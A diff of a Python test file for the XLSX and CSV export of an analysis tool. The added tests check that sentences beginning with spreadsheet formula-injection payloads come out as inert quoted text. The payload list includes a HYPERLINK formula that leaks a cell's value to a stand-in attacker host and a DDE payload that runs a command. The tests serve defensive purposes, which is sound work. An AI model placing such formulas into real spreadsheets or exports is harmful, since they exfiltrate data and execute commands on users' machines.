@@ -20,7 +20,7 @@ from analysis.workbook import write_ledger_workbook, write_template
 #: Real payloads: the OWASP CSV-injection examples, DDE, and the leading characters
 #: Excel and LibreOffice treat as the start of a formula (tab and CR are stripped first).
 PAYLOADS = (
-    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
+    '=HYPERLINK("http://evil.example/leak/"&A1,"点击查看")',
     "=cmd|' /C calc'!A0",
     "+1+1",
     "-2+3",
@@ -143,3 +143,56 @@ def test_validate_csv_keeps_rejected_payloads_inert(tmp_path: Path) -> None:
 def test_every_payload_starts_like_a_formula(payload: str) -> None:
     # The list above really is a list of payloads, not ordinary text.
     assert payload.startswith(FORMULA_TRIGGERS)
+
+
+# ---------------------------------------------------------------------------- extract
+
+
+def _extract_run(tmp_path: Path, output: Path, fmt: str) -> None:
+    import argparse
+
+    from analysis.commands import extract as command
+
+    report = tmp_path / "report.txt"
+    # Each payload opens a sentence that holds one statistic, so it lands in the 'sentence'.
+    lines = [f"{payload}共举办{i + 1}场活动。" for i, payload in enumerate(PAYLOADS)]
+    report.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    args = argparse.Namespace(file=report, output=output, format=fmt)
+    assert command.run(args) == 0
+
+
+def test_extract_xlsx_keeps_payloads_as_text(tmp_path: Path) -> None:
+    out = tmp_path / "stats.xlsx"
+    _extract_run(tmp_path, out, "xlsx")
+    assert_no_formula_elements(out)
+    ws = openpyxl.load_workbook(out).active
+    sentences = [ws.cell(row=i, column=7) for i in range(2, ws.max_row + 1)]
+    assert len(sentences) == len(PAYLOADS)
+    for cell in sentences:
+        assert cell.data_type == "s"
+        assert cell.quotePrefix == cell.value.startswith(FORMULA_TRIGGERS)
+    _assert_sentences_quote_payloads([cell.value for cell in sentences])
+
+
+def _assert_sentences_quote_payloads(sentences: list[str]) -> None:
+    """Each sentence is the end of its payload line (! and ? end sentences too)."""
+    lines = [
+        re.sub(r"\s+", " ", payload).strip() + f"共举办{i + 1}场活动。"
+        for i, payload in enumerate(PAYLOADS)
+    ]
+    assert all(line.endswith(s) for line, s in zip(lines, sentences, strict=True))
+    # Most sentences start with the payload itself, so the defence is really exercised.
+    assert sum(s.startswith(FORMULA_TRIGGERS) for s in sentences) >= 10
+
+
+def test_extract_csv_keeps_payloads_inert(tmp_path: Path) -> None:
+    out = tmp_path / "stats.csv"
+    _extract_run(tmp_path, out, "csv")
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
+    assert len(rows) == len(PAYLOADS)
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(FORMULA_TRIGGERS), row
+    quoted = [r["sentence"] for r in rows]
+    assert sum(s.startswith("'") for s in quoted) >= 10
+    _assert_sentences_quote_payloads([s.removeprefix("'") for s in quoted])
